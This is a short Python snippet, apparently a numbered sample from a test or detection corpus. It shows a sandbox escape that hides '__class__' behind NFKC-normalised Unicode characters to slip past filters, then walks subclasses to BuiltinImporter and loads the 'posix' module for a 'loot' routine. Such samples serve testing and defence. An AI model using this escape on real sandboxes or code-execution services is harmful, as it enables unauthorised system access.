# A17: NFKC-normalised identifier: ()._＿𝐜𝐥𝐚𝐬𝐬＿＿ is ().__class__.
def handle(request):
    classes = ()._＿𝐜𝐥𝐚𝐬𝐬＿＿.__base__.__subclasses__()  # GATE
    out = [str([c.__name__ for c in classes])]
    for c in classes:
        if c.__name__ == 'BuiltinImporter':
            posix = c.load_module('posix')
            return loot(posix.__dict__, out)
    return out
